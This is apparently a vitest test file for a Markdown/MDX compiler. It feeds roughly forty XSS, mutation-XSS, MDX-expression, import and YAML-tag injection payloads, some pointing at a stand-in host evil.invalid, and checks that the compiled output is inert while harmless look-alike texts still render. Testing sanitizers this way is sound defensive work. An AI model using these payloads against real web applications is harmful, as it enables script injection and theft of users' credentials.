import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterEach, expect, test, vi } from "vitest";
import type { RunbookFormat } from "@/lib/domain/document";
import { textOf } from "@/lib/reading/hast";
import { dangersIn, findTags, parseHtml } from "../testing/parse-html";
import { compile } from "./compile";

// The first compile of a file loads the bundler, which takes its time on a busy machine.
vi.setConfig({ testTimeout: 30_000 });

/** A way in, and its twin: a text that looks alike, means no harm, and is shown. */
type Attack = { kind: string; attack: string; twin: string; shows: string };

const own: Attack[] = [
  [
    "script",
    "<script>__pwn=2</script>\n\n<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "A `<script>` tag.",
    "<script>",
  ],
  ["unclosed script", "<script>__pwn=2", "<b>bold</b>", "bold"],
  [
    "handler",
    '<img src=x onerror="__pwn=2"> <details open ontoggle=alert(1)>x</details>',
    "<details open>x</details>",
    "x",
  ],
  [
    "handler with odd blanks",
    "<img/src=x\u000conerror=alert(1)//>\n\n<b\tonclick\n=\nalert(1)>x</b>",
    "<b >x</b>",
    "x",
  ],
  [
    "style element",
    "<style>*{display:none}</style>\n\n<b style=position:fixed>x</b>",
    "*style*: `a{}`",
    "a{}",
  ],
  [
    "frame",
    '<iframe srcdoc="<script>1</script>"></iframe><object data=x></object><embed src=x>',
    "an <object-name> here",
    "<object-name>",
  ],
  [
    "form",
    "<form action=//evil.invalid><input name=password><button formaction=javascript:x>Go</button></form>",
    "Fill in the <form> first",
    "<form>",
  ],
  [
    "textarea and title",
    "<textarea><img src=x onerror=alert(1)></textarea><title><b>x</title>",
    "the <title> of it",
    "<title>",
  ],
  [
    "base, meta and link",
    '<base href=//evil.invalid/><meta http-equiv=refresh content="0;url=//evil.invalid"><link rel=stylesheet href=//evil.invalid>',
    "see <link>",
    "<link>",
  ],
  [
    "svg",
    '<svg><script>1</script><a xlink:href="javascript:1"><text>x</text></a><animate onbegin=alert(1) /></svg>',
    "an svg `<svg>`",
    "<svg>",
  ],
  [
    "math",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "a <math> b",
    "<math>",
  ],
  [
    "mutation by foreign parts",
    "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
    "<p>x</p>",
    "x",
  ],
  [
    "mutation by tables",
    '<table><td><a title="</a><img src=x onerror=alert(1)>">x</a></table>',
    "<table><tr><td>x</td></tr></table>",
    "x",
  ],
  [
    "mutation by templates",
    "<template><img src=x onerror=alert(1)></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='a > b'>x</p>",
    "x",
  ],
  [
    "comment tricks",
    "<!--><img src=x onerror=alert(1)>-->\n\n<!-- --!><img src=x onerror=alert(1)> -->\n\n<![CDATA[<img src=x onerror=alert(1)>]]>\n\n<?x <img src=x onerror=alert(1)>?>",
    "before <!-- note --> after",
    "before",
  ],
  ["half tags", "<img src=x onerror=alert(1)\n\n<b\n\n</b onclick=1>x", "a < b", "a < b"],
  [
    "tag names",
    "<scr\u0000ipt>1</script> <ſcript>1</ſcript> <script/x>1</script/x> <a\u0000href=javascript:1>",
    "<ſtatus>",
    "<ſtatus>",
  ],
  [
    "custom elements and slots",
    '<x-foo is="script"></x-foo><slot name=x></slot><b is=x-y part=z>t</b>',
    "<x-foo>",
    "<x-foo>",
  ],
  [
    "attributes of the portal",
    "<button data-copy=c1>x</button><mark data-hole=a class=hole>x</mark><div data-slot=step-box data-for=x class=step-body>y</div>",
    "<mark>x</mark>",
    "x",
  ],
  [
    "names of the document",
    "<img name=body><a id=forms name=cookie href=#x>x</a><p id=__proto__>y</p>\n\n## __next_f\n\n## body",
    '<a name="x"></a>[go](#x)',
    "go",
  ],
  [
    "ids twice",
    "<p id=a>1</p><p id=a>2</p><p id=fn-1>3</p>\n\nText[^1]\n\n## user-content-a\n\n## fn-1\n\n[^1]: note",
    "Text[^1]\n\n[^1]: note",
    "note",
  ],
  [
    "expression",
    "{globalThis.__pwn = 2}\n\n<Callout title={globalThis.__pwn = 2} />",
    "use \\{braces\\}",
    "use {braces}",
  ],
  [
    "constructor chain",
    "{[].map.constructor('globalThis.__pwn=2')()}",
    "`[].map.constructor`",
    "[].map.constructor",
  ],
  ["export", "export const x = (globalThis.__pwn = 2)\n\n# T", "We\nexport nothing.", "export nothing"],
  [
    "import for its effect",
    "import 'data:text/javascript,globalThis.__pwn=2'\n\n# T\n\ntext",
    "We\nimport nothing.",
    "import nothing",
  ],
  [
    "import() and top-level await",
    "{await import('fs')}\n\n<b title={import('fs')}>x</b>",
    "`import('fs')`",
    "import('fs')",
  ],
  [
    "spread",
    '<Callout {...{dangerouslySetInnerHTML: {__html: "<img src=x onerror=alert(1)>"}}} />',
    "three dots...",
    "three dots...",
  ],
  [
    "properties of React",
    '<div dangerouslySetInnerHTML="x" ref="y" key="z" style="a:b" onClick="w" suppressHydrationWarning="1">t</div>',
    "<div>t</div>",
    "t",
  ],
  [
    "inherited names",
    '<__proto__ />\n\n<hasOwnProperty />\n\n<toString>x</toString>\n\n<Tabs __proto__="x" constructor="y">z</Tabs>',
    "`__proto__`",
    "__proto__",
  ],
  [
    "the portal's private tags",
    '<rp-static data-piece="0"></rp-static>\n\n<rp-callout data-callout="x" />',
    "`<rp-static>`",
    "<rp-static>",
  ],
  [
    "code that closes its element",
    "```html\n</code></pre><script>1</script>\n```\n\n`</code><script>1</script>`",
    "```html\n<b>x</b>\n```",
    "<b>x</b>",
  ],
  [
    "template signs in code",
    "```js\n`$\u007bglobalThis.__pwn = 2}`\n```\n\n`$\u007bglobalThis.__pwn = 2}`",
    "`$\u007bHOME}`",
    "${HOME}",
  ],
  [
    "language word",
    '```"><img src=x onerror=alert(1)>\nx\n```\n\n```js onload=alert(1)\nx\n```',
    "```js\nx\n```",
    "x",
  ],
  [
    "heading",
    "# <img src=x onerror=alert(1)>\n\n## `<script>`\n\n## <b onclick=1>x</b>",
    "# T\n\n## a < b",
    "a < b",
  ],
  [
    "table",
    "| <script>1</script> | [x](javascript:1) |\n|--|--|\n| <b onclick=1>x</b> | y |",
    "| a |\n|--|\n| <b>x</b> |",
    "x",
  ],
  [
    "alignment of a table",
    '<table><tr><td align="x onclick=1" colspan=99999 rowspan=99999 background=javascript:1>x</td></tr></table>',
    "<table><tr><td align=left colspan=2>x</td></tr></table>",
    "x",
  ],
  [
    "footnote",
    '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x\n\nText[^"onclick=1]\n\n[^"onclick=1]: y',
    "Text[^a]\n\n[^a]: note",
    "note",
  ],
  [
    "entities",
    "&lt;script&gt;1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &NotAThing;",
    "a &lt; b &amp; c",
    "a < b & c",
  ],
  [
    "front matter as code",
    '---js\n(globalThis.__pwn = 2, {title: "x"})\n---\n# T',
    "---\ntitle: x\n---\n\ntext",
    "text",
  ],
  [
    "front matter with a tag",
    "---\na: !!js/function 'function () { globalThis.__pwn = 2 }'\nb: !!python/object x\n---\n\ntext",
    "---\na: b\n---\n\ntext",
    "text",
  ],
  [
    "front matter that forges",
    "---\n__proto__: {x: 1}\ntitle: <img src=x onerror=alert(1)>\n---\n\ntext",
    "---\ntitle: a < b\n---\n\ntext",
    "text",
  ],
].map(([kind = "", attack = "", twin = "", shows = ""]) => ({ kind, attack, twin, shows }));

const formats: RunbookFormat[] = ["md", "mdx"];
const both = own.flatMap((row) => formats.map((format) => ({ ...row, format })));

afterEach(() => {
  expect("__pwn" in globalThis).toBe(false);
});

test.each(both)("$kind is inert as $format", async ({ attack, format }) => {
  const { html, road } = await compile({ source: `Before\n\n${attack}\n\nAfter\n`, format });
  expect(dangersIn(html)).toEqual([]);
  expect(road).not.toBe("source");
});

test.each(both)("$kind has a twin that is shown as $format", async ({ twin, shows, format }) => {
  const { html, road } = await compile({ source: `${twin}\n`, format });
  expect(dangersIn(html)).toEqual([]);
  expect(road).not.toBe("source");
  expect(textOf(parseHtml(html))).toContain(shows);
});

type Sample = {
  id: string;
  kind: string;
  input: unknown;
  expectation: { must_show?: string[]; must_have_href?: string[] };
};

const shared = path.resolve("../shared/attacks-sample.json");
const samples = existsSync(shared) ? (JSON.parse(readFileSync(shared, "utf8")) as Sample[]) : [];

test.skipIf(samples.length === 0)(
  "the texts of the shared sample are inert (skipped where it is not beside the checkout)",
  async () => {
    for (const { id, input, expectation } of samples) {
      if (typeof input !== "string") continue;
      for (const format of formats) {
        const { html } = await compile({ source: input, format });
        expect(dangersIn(html), id).toEqual([]);
        const page = parseHtml(html);
        for (const words of expectation.must_show ?? []) expect(textOf(page), id).toContain(words);
        const links = findTags(page, "a").map((link) => link.properties.href);
        for (const href of expectation.must_have_href ?? []) expect(links, id).toContain(href);
      }
    }
  },
);
